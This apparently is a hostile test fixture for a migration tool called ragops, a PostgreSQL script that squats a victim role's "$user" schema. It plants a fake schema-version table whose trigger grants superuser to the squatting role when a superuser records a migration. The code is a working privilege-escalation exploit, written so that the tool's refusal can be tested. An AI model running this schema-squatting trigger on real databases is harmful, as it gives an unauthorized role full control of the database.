-- tests/hostile/sql/squatter_migrate.sql: a role with CREATE on the
-- database squats the "$user" schema of the role that will run
-- `ragops migrate` (first on the default search_path), with a
-- ragops_schema_version table whose AFTER INSERT trigger makes the squatter
-- superuser when a superuser's session records a migration (issue 20.1).
-- Unqualified names of the engine's tables would resolve to it, and the
-- engine's new tables would be created in it. ragops must refuse.
-- Run as the role ragops_squatter (psql -v victim=ROLE).
create schema :"victim";

create table :"victim".ragops_schema_version (
  version int primary key,
  description text not null,
  applied_at timestamptz not null default now());

create function :"victim".escalate() returns trigger language plpgsql as $body$
begin
  if (select rolsuper from pg_catalog.pg_roles where rolname = current_user) then
    execute 'alter role ragops_squatter superuser';
  end if;
  return null;
end $body$;

create trigger escalate after insert on :"victim".ragops_schema_version
  for each row execute function :"victim".escalate();

grant usage, create on schema :"victim" to public;
grant all on all tables in schema :"victim" to public;
